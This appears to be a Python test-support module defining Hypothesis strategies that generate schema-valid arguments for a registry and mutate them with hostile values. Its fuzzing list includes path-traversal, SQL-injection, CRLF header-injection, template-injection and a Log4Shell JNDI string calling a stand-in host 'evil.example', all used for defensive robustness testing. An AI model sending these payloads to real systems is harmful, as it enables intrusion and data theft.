"""Hypothesis strategies from the JSON Schema subset the registry uses: valid values, and hostile mutations."""

from __future__ import annotations

import string as charsets
from typing import Any

from hypothesis import strategies as st

HOSTILE_STRINGS = [
    "", " ", "..", ".", "../../etc/passwd", "..%2F..%2Fv1", "%2e%2e%2f", "/", "//evil.example", "http://evil.example/",
    "a?page[size]=250", "a#x", "a&filter[status]=enabled", "a\r\nX-Injected: 1", "\x00", "\u202e\ufeff", "😀" * 50,
    "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "a" * 5000, "é" * 300, "null", "NaN",
]
HUGE_NUMBERS = [10**30, -(10**30), 2**63, -1, 0, 1.5, 1e308, -1e308]


def _text(schema: dict[str, Any]) -> st.SearchStrategy[str]:
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    low, high = schema.get("minLength", 0), schema.get("maxLength", 300)
    match schema.get("format"):
        case "uuid":
            return st.uuids().map(str)
        case "date-time":
            return st.datetimes(timezones=st.just(__import__("datetime").timezone.utc)).map(
                lambda d: d.isoformat().replace("+00:00", "Z"))
        case "uri":
            return st.builds(lambda host, path: f"https://{host}.example/{path}",
                             st.text(charsets.ascii_lowercase, min_size=1, max_size=20),
                             st.text(charsets.ascii_letters + charsets.digits, max_size=40))
    if "pattern" in schema:
        return st.from_regex(schema["pattern"], fullmatch=True).filter(lambda s: low <= len(s) <= high)
    return st.text(min_size=low, max_size=min(high, 300))


def valid(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values that satisfy `schema` (the registry's subset of JSON Schema)."""
    if "anyOf" in schema:
        return st.one_of([valid(s) for s in schema["anyOf"]])
    kinds = schema.get("type")
    if isinstance(kinds, list):
        return st.one_of([valid({**schema, "type": k}) for k in kinds])
    match kinds:
        case "null":
            return st.none()
        case "boolean":
            return st.booleans()
        case "integer":
            return st.integers(schema.get("minimum"), schema.get("maximum"))
        case "number":
            return st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False, allow_infinity=False)
        case "string":
            return _text(schema)
        case "array":
            items = valid(schema.get("items", {"type": "string", "maxLength": 20}))
            return st.lists(items, min_size=schema.get("minItems", 0), max_size=min(schema.get("maxItems", 5), 5),
                            unique_by=(lambda v: repr(v)) if schema.get("uniqueItems") else None)
        case "object":
            properties = schema.get("properties", {})
            required = set(schema.get("required", []))
            return st.fixed_dictionaries(
                {k: valid(v) for k, v in properties.items() if k in required},
                optional={k: valid(v) for k, v in properties.items() if k not in required},
            )
    raise NotImplementedError(f"schema not covered: {schema}")


ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.sampled_from(HUGE_NUMBERS) | st.text(max_size=50)
    | st.sampled_from(HOSTILE_STRINGS),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=10,
)


def mutated(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Valid arguments with one hostile change: a wrong-typed, hostile or huge value, an unknown argument,
    or a missing required one."""
    names = sorted(schema.get("properties", {}))
    required = schema.get("required", [])

    @st.composite
    def build(draw: st.DrawFn) -> dict[str, Any]:
        arguments = dict(draw(valid(schema)))
        change = draw(st.sampled_from(["replace", "replace", "replace", "extra", "drop"]))
        if change == "replace" and names:
            arguments[draw(st.sampled_from(names))] = draw(ANY_JSON)
        elif change == "drop" and required:
            arguments.pop(draw(st.sampled_from(required)), None)
        else:
            extra = draw(st.sampled_from(["../x", "__proto__", "base_url", "path", "Authorization", "x" * 200]))
            arguments[extra] = draw(ANY_JSON)
        return arguments
    return build()
